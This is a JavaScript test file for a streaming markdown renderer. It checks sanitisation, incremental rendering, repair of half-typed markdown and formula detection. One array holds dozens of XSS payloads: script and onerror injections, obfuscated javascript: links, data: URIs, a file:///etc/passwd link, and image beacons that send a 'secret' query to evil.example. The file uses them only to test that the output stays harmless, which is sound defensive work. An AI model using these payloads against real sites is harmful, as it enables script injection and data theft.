// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { block, tokenize, withCaret } from '../../../target/classes/dev/teleprinter/web/markdown.js';
import { CARET, GrowingMarkdown } from '../../../target/classes/dev/teleprinter/web/growing-markdown.js';
import { repair, WholeLines } from '../../../target/classes/dev/teleprinter/web/repair.js';
import { random } from './fakes.js';

const DOCUMENT = `A **bold _and_** start with \`code\`, a [link](https://a.example/x_(y)) and ~~not~~.

# Title

1. one
2. two
   - nested *item*

   more of two

3. three

Setext
------

| a | b |
|:--|--:|
| 1 | \`2\` |

\`\`\`js
const a = 1; // **not bold**

# not a title
\`\`\`

> quote with 你好 👩‍👩‍👧‍👦
> second line

- [x] done
- [ ] open

[ref]: https://r.example "R"

Use [ref] &amp; <b>tags</b>, H<sub>2</sub>O, a<br>b.

![pic](https://evil.example/?q=secret)

***

The end, 2 * 3 * 4, snake_case_name.`;

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'a <img src=x onerror=alert(1)> b',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](vbscript:x)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/v1/responses)',
  '[x](blob:https://a)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?q=secret)',
  '![x](//evil.example/?q=secret)',
  '![x](/v1/models)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](data:text/html,<script>1</script>)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '[r]: javascript:alert(1)\n\n[r]',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js" onmouseover="alert(1)\ncode\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <style>*{display:none}</style>',
  '<b onclick=alert(1)>x</b>',
  '<sub style="position:fixed">x</sub>',
  '<form action=https://evil.example><input name=q></form>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<object data=x></object><embed src=x>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<b><i></b><script>x</script></i>',
  '<https://evil.example/"onmouseover="alert(1)>',
  '[x](https://a.example "t\\" onmouseover=alert(1)")',
];

const TAGS = new Set(
  ('a b blockquote br button code del em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q s ' +
    'samp small span strong sub sup table tbody td th thead tr u ul var div').split(' '),
);
const ATTRIBUTES = new Set(
  'align alt aria-hidden aria-label checked class data-copy data-display data-language dir disabled href rel src start tabindex target title type'.split(' '),
);

const render = (text) => tokenize(text).flatMap(block);

/** Every element of a tree. */
function* elements(nodes) {
  for (const node of nodes) {
    if (typeof node === 'string') continue;
    yield node;
    yield* elements(node.children);
  }
}

const textOf = (node) => (typeof node === 'string' ? node : node.children.map(textOf).join(''));

function assertHarmless(nodes, source) {
  for (const { tag, attrs } of elements(nodes)) {
    assert.ok(TAGS.has(tag), `tag: ${tag} in ${source}`);
    for (const [name, value] of Object.entries(attrs)) {
      assert.ok(ATTRIBUTES.has(name), `attribute: ${name} in ${source}`);
      if (name === 'href') assert.match(value, /^(https?|mailto):/i, source);
      if (name === 'href') assert.equal(attrs.rel, 'noopener noreferrer nofollow', source);
      if (name === 'src') assert.match(value, /^data:image\/(png|jpeg|gif|webp|avif);base64,/, source);
      if (name === 'class') assert.match(value, /^(code|table|task|left|right|center|math|tp-caret)$/, source);
    }
  }
}

test('hostile markdown makes only harmless elements, at every length', () => {
  for (const source of HOSTILE) {
    assertHarmless(render(source), source);
    const growing = new GrowingMarkdown();
    for (let end = 1; end <= source.length; end++) assertHarmless(growing.nodes(source.slice(0, end), 'live'), source);
  }
});

test('random joins of hostile pieces are harmless too', () => {
  for (let seed = 1; seed <= 300; seed++) {
    const next = random(seed);
    const pick = () => HOSTILE[Math.floor(next() * HOSTILE.length)];
    const cut = (s) => s.slice(Math.floor(next() * 4), s.length - Math.floor(next() * 4));
    const source = Array.from({ length: 6 }, () => cut(pick())).join(['\n', ' ', '\n\n', ''][seed % 4]);
    assertHarmless(render(source), `seed ${seed}: ${source}`);
  }
});

test('HTML in the text is shown as text', () => {
  assert.equal(render('<script>alert(1)</script>').map(textOf).join(''), '<script>alert(1)</script>');
});

test('an image of another place is a link that loads nothing', () => {
  const [{ children: [link] }] = render('![a chart](https://x.example/c.png)');
  assert.equal(link.tag, 'a');
  assert.equal(textOf(link), '🖼 a chart');
});

test('streamed in any pieces, the end is what rendering it at once gives', () => {
  const whole = render(DOCUMENT);
  for (let seed = 1; seed <= 40; seed++) {
    const next = random(seed);
    const growing = new GrowingMarkdown();
    for (let end = 0; end < DOCUMENT.length; ) {
      end += 1 + Math.floor(next() * 12);
      growing.nodes(DOCUMENT.slice(0, end), 'live');
    }
    assert.deepEqual(growing.nodes(DOCUMENT, 'ended'), whole);
  }
});

test('what is settled is never touched again: the very same values', () => {
  const growing = new GrowingMarkdown();
  let before = [];
  for (let end = 1; end <= DOCUMENT.length; end++) {
    const nodes = growing.nodes(DOCUMENT.slice(0, end), 'live');
    let same = 0;
    while (same < before.length && before[same] === nodes[same]) same++;
    // All but the unsettled blocks are the same objects; at most two blocks and a caret are not.
    assert.ok(before.length - same <= 3, `end: ${end}, touched: ${before.length - same}`);
    before = nodes;
  }
});

test('what is settled while streaming is what the whole gives', () => {
  const whole = render(DOCUMENT.replace('[ref]: https://r.example "R"\n\n', ''));
  const source = DOCUMENT.replace('[ref]: https://r.example "R"\n\n', '');
  const growing = new GrowingMarkdown();
  let nodes = [];
  for (let end = 1; end <= source.length; end++) nodes = growing.nodes(source.slice(0, end), 'live');
  assert.deepEqual(nodes.slice(0, -3), whole.slice(0, nodes.length - 3));
});

/** Texts of one block that goes on and on. */
const ENDLESS = {
  list: (i) => `${i + 3}. item **${i}** with \`code\`\n`,
  'list with paragraphs': (i) => `* [${' x'[i % 2]}] item ${i}\n\n  and more of it\n\n`,
  'list of lists': (i) => `  - item ${i}\n    - within\n\n      > it\n`,
  'list that loosens': (i) => `- item ${i}\n${i === 170 || i > 300 ? '\n' : ''}`,
  'list with code': (i) => `- item ${i}\n\n  \`\`\`js\n  - no item\n\n  \`\`\`\n`,
  table: (i) => (i === 0 ? 'A line.\n\n| a | b |\n|--:|---|\n' : `| ${i} | *b* \\| c |\n`),
  'ragged table': (i) => (i === 0 ? 'a | b | c\n--|:-:|--\n' : `${i} | x${i % 3 ? '' : ' | y | z'}\n`),
};

test('a step costs what the tail costs, not what the answer costs', () => {
  const endless = [() => DOCUMENT, (i) => `One paragraph, ${i} words. `, (i) => `> quoted **line** ${i}\n`, ...Object.values(ENDLESS)];
  for (const make of endless) {
    const growing = new GrowingMarkdown();
    const text = Array.from({ length: 6000 }, (_, i) => make(i)).join('').slice(0, 60_000);
    let most = 0;
    for (let end = 0; end < text.length; end += 900) {
      growing.nodes(text.slice(0, end), 'live');
      most = Math.max(most, growing.tailChars);
    }
    assert.ok(most < 18_000, `tail: ${most} of ${text.slice(0, 100)}`);
  }
});

test('a list or table that settles row by row is what rendering it at once gives', () => {
  for (const [name, make] of Object.entries(ENDLESS)) {
    const text = Array.from({ length: 400 }, (_, i) => make(i)).join('');
    const after = `${text}\n\nThe end.\n\n---\n\n# After\n\nIt.`;
    for (let seed = 1; seed <= 2; seed++) {
      const next = random(seed);
      const growing = new GrowingMarkdown();
      for (let end = 0; end < after.length; ) {
        end += 1 + Math.floor(next() * 1500);
        const nodes = growing.nodes(after.slice(0, end), 'live');
        assert.deepEqual(nodes, withCaret(render(repair(after.slice(0, end))), CARET), `${name}, seed: ${seed}, end: ${end}`);
      }
      assert.deepEqual(growing.nodes(after, 'ended'), render(after), `${name}, seed: ${seed}`);
      const half = new GrowingMarkdown();
      for (let end = 0; end < text.length; end += 70) half.nodes(text.slice(0, end), 'live');
      assert.deepEqual(half.nodes(text, 'ended'), render(text), `${name}, ended within`);
    }
  }
});

test('carriage returns are line ends', () => {
  assert.deepEqual(render('a\n\n- b'), new GrowingMarkdown().nodes('a\r\n\r\n- b', 'ended'));
});

test('a live text ends in exactly one caret, within its last block', () => {
  for (let end = 0; end <= DOCUMENT.length; end++) {
    const nodes = new GrowingMarkdown().nodes(DOCUMENT.slice(0, end), 'live');
    assert.equal([...elements(nodes)].filter((node) => node === CARET).length, 1, `end: ${end}`);
  }
  const [paragraph] = withCaret(render('a'), CARET);
  assert.equal(paragraph.children.at(-1), CARET);
});

test('repair shows half-typed markdown as it will look', () => {
  const cases = [
    ['**bo', '**bo**'],
    ['**bold*', '**bold**'],
    ['a **', 'a '],
    ['*a **b', '*a **b***'],
    ['`co', '`co`'],
    ['[te', 'te'],
    ['[text](https://a.b/c', 'text'],
    ['see ![alt](ht', 'see '],
    ['- ', ''],
    ['a\n--', 'a\n'],
    ['a\n\n1.', 'a\n\n'],
    ['#', ''],
    ['| a | b |', '| a | b |\n| --- | --- |\n'],
    ['| a | b |\n|--', '| a | b |\n| --- | --- |\n'],
    ['- *a\n- **b', '- *a\n- **b**'],
    ['- [ ] **x', '- [ ] **x**'],
    ['```\nx\n```\n**y', '```\nx\n```\n**y**'],
    ['**注意', '**注意**'],
  ];
  for (const [half, repaired] of cases) assert.equal(repair(half), repaired);
});

test('repair leaves alone what is whole', () => {
  const whole = ['2 * 3 * 4', 'snake_case_x', '`a` b', '[a](https://b)', '```js\nlet a = **', '| a |\n|---|\n| 1', 'a [x] b', 'a\\*b', ''];
  for (const text of whole) assert.equal(repair(text), text);
});

test('repair stops at any input', () => {
  const alphabet = ['*', '_', '`', '~', '[', ']', '(', ')', '!', '\\', '\n', ' ', '|', '-', '#', '>', 'a', '你'];
  for (let seed = 1; seed <= 400; seed++) {
    const next = random(seed);
    const text = Array.from({ length: 60 }, () => alphabet[Math.floor(next() * alphabet.length)]).join('');
    assert.equal(typeof repair(text), 'string');
    assertHarmless(new GrowingMarkdown().nodes(text, 'live'), text);
  }
});

test('a line of code is typed whole, prose is not', () => {
  const text = 'prose\n```js\nlet a;\nlet b;\n```\nmore';
  const lines = new WholeLines();
  const cuts = Array.from({ length: text.length + 1 }, (_, cut) => lines.hold(text, cut));
  assert.equal(cuts[3], 3);
  assert.equal(cuts[text.indexOf('a;')], text.indexOf('let a'));
  assert.equal(cuts[text.indexOf('a;') + 2], text.indexOf('a;') + 2);
  assert.equal(cuts[text.length - 2], text.length - 2);
});

test('50 kB in 300-character steps cost under a second', () => {
  const text = DOCUMENT.repeat(Math.ceil(50_000 / DOCUMENT.length)).slice(0, 50_000);
  const growing = new GrowingMarkdown();
  const started = process.cpuUsage(); // a busy machine does not count
  for (let end = 300; end < text.length; end += 300) growing.nodes(text.slice(0, end), 'live');
  growing.nodes(text, 'ended');
  const ms = process.cpuUsage(started).user / 1000;
  assert.ok(ms < 1000, `ms: ${ms}`);
});

const formulas = (text) => {
  const found = [];
  const walk = (node) => {
    if (typeof node === 'string') return;
    if (node.attrs.class === 'math') found.push([node.tag, node.children[0]]);
    else node.children.forEach(walk);
  };
  tokenize(text).flatMap(block).forEach(walk);
  return found;
};

test('knows formulas by their marks, alone and in a line', () => {
  assert.deepEqual(formulas('Let \\(a_1*b*c\\) be.\n\n$$\n\\frac{1}{2}\n$$\n\nand \\[x^2\\]\n\n\\[\ny\n\\]'), [
    ['span', 'a_1*b*c'],
    ['div', '\\frac{1}{2}'],
    ['span', 'x^2'],
    ['div', 'y'],
  ]);
  assert.deepEqual(formulas('- item $$x$$ more\n- \\(y\\)'), [['span', 'x'], ['span', 'y']]);
});

test('takes money, code and what is never closed for what they are', () => {
  for (const text of ['It costs $5 or $6.', '`\\(a\\)` and `$$b$$`', '$$ open', '\\( open', '$$\n\nnot here$$', '```\n$$x$$\n```']) {
    assert.deepEqual(formulas(text), [], text);
  }
});

test('shows no half formula, and no half of its source', () => {
  const growing = new GrowingMarkdown();
  const text = 'So \\(a^2 + b^2\\) holds.\n\nNext.';
  for (let end = 1; end <= text.length; end++) {
    const shown = JSON.stringify(growing.nodes(text.slice(0, end), 'live'));
    assert.ok(!shown.includes('\\\\('), text.slice(0, end));
  }
});
